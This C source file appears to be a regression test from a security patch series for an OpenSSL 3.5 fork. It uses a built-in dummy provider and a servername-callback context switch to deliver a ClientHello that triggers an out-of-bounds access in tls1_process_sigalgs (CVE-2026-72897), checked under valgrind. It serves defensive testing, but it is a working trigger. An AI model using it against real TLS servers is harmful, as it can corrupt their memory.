/*
 * set_ssl_ctx: CVE-2026-72897's attack input against whichever libssl.so.3
 * the dynamic linker gives this program (the 3.5 fork, Debian 13's binary,
 * the stock 3.5 tree without our security series), run under valgrind by
 * security35.sh.
 *
 * The server's connection is created from an SSL_CTX that knows the default
 * provider's three TLS-SIGALGs (ML-DSA); its servername callback switches it
 * with SSL_set_SSL_CTX() to a context created after a fourth provider
 * signature algorithm was loaded (a provider built into this program,
 * "utlstestsig", that only advertises one). The client offers that
 * algorithm's code point in a TLS 1.3 ClientHello. A libssl that keeps the
 * first context's slot count then reads (and may write) one uint32_t past
 * s3.tmp.valid_flags in tls1_process_sigalgs(): valgrind reports it.
 *
 * Prints one JSON line: the libssl.so.3 mapped, its version, whether the
 * switch happened, whether the server saw the provider code point among the
 * peer's signature algorithms (else the attack did not reach the code and
 * the run fails: exit 2), and the handshake result. Exit 0 when the attack
 * was delivered and the handshake completed, 1 on a handshake failure.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <openssl/core.h>
#include <openssl/core_dispatch.h>
#include <openssl/err.h>
#include <openssl/evp.h>
#include <openssl/provider.h>
#include <openssl/ssl.h>
#include <openssl/x509.h>

#include "test_identity.h"

/* A code point from the private-use range (RFC 8446 4.2.3: 0xFE00..0xFFFF). */
#define TEST_SIGALG_CODE_POINT 0xfe7a
#define TEST_KEYTYPE "UTLSTESTSIG"

/* --- The provider: one TLS-SIGALG capability and the key type it names -- */

/* A key of the test type never holds anything: the provider exists only so
 * that libssl counts one more provider signature algorithm. */
static void *tk_new(void *provctx)
{
    (void)provctx;
    return OPENSSL_zalloc(1);
}

static void tk_free(void *key)
{
    OPENSSL_free(key);
}

static int tk_has(const void *key, int selection)
{
    (void)key;
    (void)selection;
    return 0;
}

static const OSSL_DISPATCH tk_keymgmt[] = {
    { OSSL_FUNC_KEYMGMT_NEW, (void (*)(void))tk_new },
    { OSSL_FUNC_KEYMGMT_FREE, (void (*)(void))tk_free },
    { OSSL_FUNC_KEYMGMT_HAS, (void (*)(void))tk_has },
    { 0, NULL }
};

static const OSSL_ALGORITHM tk_keymgmts[] = {
    { TEST_KEYTYPE, "provider=utlstestsig", tk_keymgmt, "uTLS test key type" },
    { NULL, NULL, NULL, NULL }
};

static const OSSL_ALGORITHM *tp_query(void *provctx, int id, int *no_cache)
{
    (void)provctx;
    *no_cache = 0;
    return id == OSSL_OP_KEYMGMT ? tk_keymgmts : NULL;
}

static unsigned int cap_code_point = TEST_SIGALG_CODE_POINT;
static unsigned int cap_secbits = 128;
static int cap_min_tls = TLS1_3_VERSION;
static int cap_max_tls = 0;

/* The parameter names are OSSL_CAPABILITY_TLS_SIGALG_* of OpenSSL >= 3.2,
 * spelled out: this program compiles against Debian 12's 3.0 headers. */
static const OSSL_PARAM tp_sigalg[] = {
    OSSL_PARAM_utf8_string("tls-sigalg-iana-name", "utlstestsig", sizeof("utlstestsig")),
    OSSL_PARAM_utf8_string("tls-sigalg-name", "utlstestsig", sizeof("utlstestsig")),
    OSSL_PARAM_utf8_string("tls-sigalg-oid", "1.3.6.1.4.1.59999.72897.1", sizeof("1.3.6.1.4.1.59999.72897.1")),
    OSSL_PARAM_uint("tls-sigalg-code-point", &cap_code_point),
    OSSL_PARAM_uint("tls-sigalg-sec-bits", &cap_secbits),
    OSSL_PARAM_utf8_string("tls-sigalg-keytype", TEST_KEYTYPE, sizeof(TEST_KEYTYPE)),
    OSSL_PARAM_utf8_string("tls-sigalg-keytype-oid", "1.3.6.1.4.1.59999.72897.2", sizeof("1.3.6.1.4.1.59999.72897.2")),
    OSSL_PARAM_int("tls-min-tls", &cap_min_tls),
    OSSL_PARAM_int("tls-max-tls", &cap_max_tls),
    OSSL_PARAM_END
};

static int tp_caps(void *provctx, const char *capability, OSSL_CALLBACK *cb, void *arg)
{
    (void)provctx;
    if (strcmp(capability, "TLS-SIGALG") == 0)
        return cb(tp_sigalg, arg);
    return 1; /* no other capability */
}

static void tp_teardown(void *provctx)
{
    (void)provctx;
}

static const OSSL_DISPATCH tp_dispatch[] = {
    { OSSL_FUNC_PROVIDER_QUERY_OPERATION, (void (*)(void))tp_query },
    { OSSL_FUNC_PROVIDER_GET_CAPABILITIES, (void (*)(void))tp_caps },
    { OSSL_FUNC_PROVIDER_TEARDOWN, (void (*)(void))tp_teardown },
    { 0, NULL }
};

static int tp_init(const OSSL_CORE_HANDLE *handle, const OSSL_DISPATCH *in,
                   const OSSL_DISPATCH **out, void **provctx)
{
    (void)handle;
    (void)in;
    *out = tp_dispatch;
    *provctx = (void *)tp_dispatch;
    return 1;
}

/* --- The TLS side -------------------------------------------------------- */

static SSL_CTX *second_ctx;
static int switched;

static int servername_cb(SSL *s, int *al, void *arg)
{
    (void)al;
    (void)arg;
    if (SSL_set_SSL_CTX(s, second_ctx) == second_ctx)
        switched = 1;
    return SSL_TLSEXT_ERR_OK;
}

static int make_server_ctx(SSL_CTX **out_ctx, EVP_PKEY *key, X509 *cert)
{
    SSL_CTX *ctx = SSL_CTX_new(TLS_server_method());

    if (ctx == NULL || !SSL_CTX_set_min_proto_version(ctx, TLS1_3_VERSION)
        || !SSL_CTX_use_certificate(ctx, cert) || !SSL_CTX_use_PrivateKey(ctx, key)) {
        SSL_CTX_free(ctx);
        return 0;
    }
    *out_ctx = ctx;
    return 1;
}

/* Drives both ends over a BIO pair until both finish or one fails. */
static int handshake(SSL *client, SSL *server)
{
    SSL *end[2] = {client, server};
    int done[2] = {0, 0}, i, k;

    for (i = 0; i < 200 && !(done[0] && done[1]); i++) {
        for (k = 0; k < 2; k++) {
            int r;

            if (done[k])
                continue;
            if ((r = SSL_do_handshake(end[k])) == 1)
                done[k] = 1;
            else if (SSL_get_error(end[k], r) != SSL_ERROR_WANT_READ)
                return 0;
        }
    }
    return done[0] && done[1];
}

/* Whether the peer's signature_algorithms, as the server kept them, hold
 * the test code point: proof that the attack input reached the server. */
static int peer_offered_test_sigalg(SSL *server)
{
    int i, n = SSL_get_sigalgs(server, -1, NULL, NULL, NULL, NULL, NULL);

    for (i = 0; i < n; i++) {
        unsigned char rsig = 0, rhash = 0;

        SSL_get_sigalgs(server, i, NULL, NULL, NULL, &rsig, &rhash);
        if (((unsigned int)rhash << 8 | rsig) == TEST_SIGALG_CODE_POINT)
            return 1;
    }
    return 0;
}

int main(void)
{
    EVP_PKEY *key = NULL;
    X509 *cert = NULL;
    SSL_CTX *first_ctx = NULL, *client_ctx = NULL;
    SSL *server = NULL, *client = NULL;
    BIO *sbio = NULL, *cbio = NULL;
    OSSL_PROVIDER *prov = NULL;
    char lib[1024];
    int ok, offered, rc = 1;

    if (!ti_make_identity(1, "security35.test", &key, &cert)
        || !make_server_ctx(&first_ctx, key, cert)) {
        fprintf(stderr, "set_ssl_ctx: cannot set up the first server context\n");
        ERR_print_errors_fp(stderr);
        return 1;
    }
    /* The second context is made after one more provider signature
     * algorithm is known: it has one certificate slot more. */
    if (!OSSL_PROVIDER_add_builtin(NULL, "utlstestsig", tp_init)
        || (prov = OSSL_PROVIDER_load(NULL, "utlstestsig")) == NULL
        || !make_server_ctx(&second_ctx, key, cert)
        || (client_ctx = SSL_CTX_new(TLS_client_method())) == NULL
        || !SSL_CTX_set_min_proto_version(client_ctx, TLS1_3_VERSION)) {
        fprintf(stderr, "set_ssl_ctx: cannot set up the provider, second context or client\n");
        ERR_print_errors_fp(stderr);
        return 1;
    }
    SSL_CTX_set_tlsext_servername_callback(first_ctx, servername_cb);

    server = SSL_new(first_ctx);
    client = SSL_new(client_ctx);
    if (server == NULL || client == NULL || !BIO_new_bio_pair(&sbio, 0, &cbio, 0)
        || !SSL_set_tlsext_host_name(client, "second.security35.test")) {
        fprintf(stderr, "set_ssl_ctx: cannot create the connections\n");
        return 1;
    }
    SSL_set_bio(server, sbio, sbio);
    SSL_set_bio(client, cbio, cbio);
    SSL_set_accept_state(server);
    SSL_set_connect_state(client);

    ok = handshake(client, server);
    offered = peer_offered_test_sigalg(server);
    ti_maps_libssl("/proc/self/maps", lib, sizeof(lib), "?");
    printf("{\"libssl\": \"%s\", \"version\": \"%s\", \"switched\": %s, \"offered\": %s, \"handshake\": \"%s\"}\n",
           lib, OpenSSL_version(OPENSSL_VERSION), switched ? "true" : "false", offered ? "true" : "false",
           ok ? "ok" : "failed");
    if (!ok)
        ERR_print_errors_fp(stderr);
    if (!switched || !offered) {
        fprintf(stderr, "set_ssl_ctx: the attack did not reach the server (switched=%d offered=%d)\n",
                switched, offered);
        rc = 2;
    } else {
        rc = ok ? 0 : 1;
    }

    SSL_free(client);
    SSL_free(server);
    SSL_CTX_free(client_ctx);
    SSL_CTX_free(first_ctx);
    SSL_CTX_free(second_ctx);
    OSSL_PROVIDER_unload(prov);
    EVP_PKEY_free(key);
    X509_free(cert);
    return rc;
}
